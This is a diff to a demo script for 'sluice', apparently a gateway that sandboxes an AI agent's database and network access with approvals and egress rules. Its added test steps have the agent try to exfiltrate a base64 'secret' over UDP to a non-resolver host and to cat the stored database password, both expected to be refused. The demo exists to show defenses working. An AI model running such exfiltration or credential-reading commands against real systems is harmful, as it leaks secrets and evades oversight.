@@ -43,11 +43,15 @@ OTHER_PID=$!
 echo "What the database really holds (read by the operator over its local socket):"
 runuser -u postgres -- psql -X -h "$WORK/pg" -U postgres -d shop -c "select * from customers"
 
-printf 'app-secret-held-by-sluice\n' > "$WORK/orders-db.password"
-# The reviewer's token. A real deployment signs reviewers in with OIDC (identity.oidc); a
-# static token keeps the demo free of external services.
-openssl rand -hex 24 > "$WORK/reviewer.token"
-API=http://127.0.0.1:17070
+# Secrets are written readable by their owner only: sluice refuses a `file:` secret or a
+# --token-file that group or others could read (as ssh does with private keys).
+(
+  umask 077
+  printf 'app-secret-held-by-sluice\n' > "$WORK/orders-db.password"
+  # The reviewer's token. A real deployment signs reviewers in with OIDC (identity.oidc); a
+  # static token keeps the demo free of external services.
+  openssl rand -hex 24 > "$WORK/reviewer.token"
+)
 cat > "$WORK/policy.yaml" <<YAML
 listen: 127.0.0.1:15001
 state_dir: $WORK/state
@@ -55,6 +59,7 @@ data_dir: $WORK/data
 targets:
   - name: demo-agent      # a cgroup sluice manages; \`sluice exec\` puts the agent in it
     egress: deny          # anything not listed below is refused
+    run_as: sluice-agent  # the agent runs unprivileged: no root, no capabilities, seccomp
 resources:
   - name: orders-db
     protocol: postgres
@@ -71,7 +76,8 @@ rules:
     action: hold          # the statement waits in sluice until a DBA approves it
     approval: { groups: [dba], timeout: 2m, preview: { explain: true, dry_run: true } }
 approvals:
-  listen: 127.0.0.1:17070 # API, CLI and web page for reviewers
+  listen: 127.0.0.1:17070 # HTTP API and web page for reviewers
+                          # (the CLI uses the gateway's socket, $WORK/state/approvals.sock)
 identity:
   static_tokens:          # single-user demo; use identity.oidc in production
     - { subject: dana, groups: [dba], token: { file: $WORK/reviewer.token } }
@@ -88,10 +94,16 @@ echo "--- psql: UPDATE customers SET name = '"'"'Ada King'"'"' WHERE id = 1   (h
 psql -X "host=169.254.200.2 user=app password=anything dbname=shop" -c "UPDATE customers SET name = '"'"'Ada King'"'"' WHERE id = 1"
 echo "--- curl http://169.254.200.2:9999/  (not a listed resource)"
 curl -sS -m 3 http://169.254.200.2:9999/ || echo "(refused by sluice in the kernel: EPERM)"
+echo "--- a DNS-shaped datagram to a host that is not the resolver (exfiltration over UDP)"
+bash -c "echo c2VjcmV0 > /dev/udp/169.254.200.2/53" || echo "(refused by sluice in the kernel: EPERM)"
+echo "--- cat the credential sluice logs in with"
+cat '"$WORK"'/orders-db.password || echo "(hidden from the agent: sluice exec'"'"'s Landlock sandbox)"
 '
 # A reviewer at another terminal: waits for the held statement, looks at it, approves it.
 reviewer() {
-  local approvals=("$BIN/sluice" approvals --url "$API" --token-file "$WORK/reviewer.token")
+  # -c: the CLI talks to the gateway's unix socket and checks who serves it before it sends
+  # the token (the gateway's pid from its lease, outside the agents' cgroup).
+  local approvals=("$BIN/sluice" approvals -c "$WORK/policy.yaml" --token-file "$WORK/reviewer.token")
   for _ in $(seq 1 300); do
     id=$("${approvals[@]}" list 2>/dev/null | awk 'NR == 2 { print $1 }' || true)
     if [ -n "$id" ]; then
@@ -115,7 +127,7 @@ RUST_LOG=info,sluice::proto::command=debug \
 wait "$REVIEWER_PID" || true
 
 step "What sluice logged"
-grep -E 'event="(connection|session_start|command|approval_requested|approval_decided|hold_released|egress_denied)"' "$WORK/sluice.log" \
+grep -E 'event="(connection|session_start|command|approval_requested|approval_decided|hold_released|egress_denied|udp_denied|exec_sandbox)"' "$WORK/sluice.log" \
   | sed -E 's/^[^ ]+ +//' | cut -c1-260
 
 step "Ground truth: the table is still there"
